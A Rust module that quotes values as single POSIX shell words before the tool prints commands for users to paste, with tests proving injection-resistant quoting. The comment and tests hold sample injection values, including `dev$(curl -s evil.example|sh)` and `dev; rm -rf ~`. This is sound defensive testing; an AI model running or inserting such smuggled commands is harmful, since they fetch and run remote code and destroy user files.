//! Commands the tool prints for a person to paste into a POSIX shell (sh, bash, zsh). Every
//! argument goes through `word`, so a value from a settings file, a policy or an AWS answer
//! (`dev$(curl …|sh)`) is one quoted word, never shell syntax. Windows users paste into
//! PowerShell, whose quoting differs: where the tool prints a command, it is POSIX.

/// `text` as one shell word: as it is when it holds nothing a shell would read, else in single
/// quotes (a quote inside closed, escaped and reopened). The `[1m]` suffix is a glob, so it is
/// quoted too.
pub fn word(text: &str) -> String {
    let plain = text
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "._:/=@+-,".contains(c));
    if plain && !text.is_empty() {
        text.to_string()
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

/// A command line of words, each quoted as `word` quotes it:
/// `sh!["aws", "sso", "login", "--profile", profile]`.
macro_rules! sh {
    ($($word:expr),+ $(,)?) => {
        [$($crate::shell::word(&$word.to_string())),+].join(" ")
    };
}
pub(crate) use sh;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_value_is_one_word_to_a_shell() {
        assert_eq!(word("us-east-1"), "us-east-1");
        assert_eq!(
            word("dev$(curl -s evil.example|sh)"),
            "'dev$(curl -s evil.example|sh)'"
        );
        assert_eq!(word("it's"), r"'it'\''s'");
        assert_eq!(word(""), "''");
        assert_eq!(
            word("us.anthropic.claude-sonnet-4-6[1m]"),
            "'us.anthropic.claude-sonnet-4-6[1m]'"
        );
        assert_eq!(word("a\nb"), "'a\nb'");
        let profile = "dev; rm -rf ~";
        assert_eq!(
            sh!["aws", "sso", "login", "--profile", profile],
            "aws sso login --profile 'dev; rm -rf ~'"
        );
    }

    #[test]
    fn a_quoted_word_is_what_sh_reads_back() {
        for value in [
            "dev$(id)", "a'b\"c", "`uname`", "x;y|z&", "$HOME", "*", "a b",
        ] {
            let out = std::process::Command::new("sh")
                .args(["-c", &format!("printf %s {}", word(value))])
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(out.stdout).unwrap(), value);
        }
    }
}
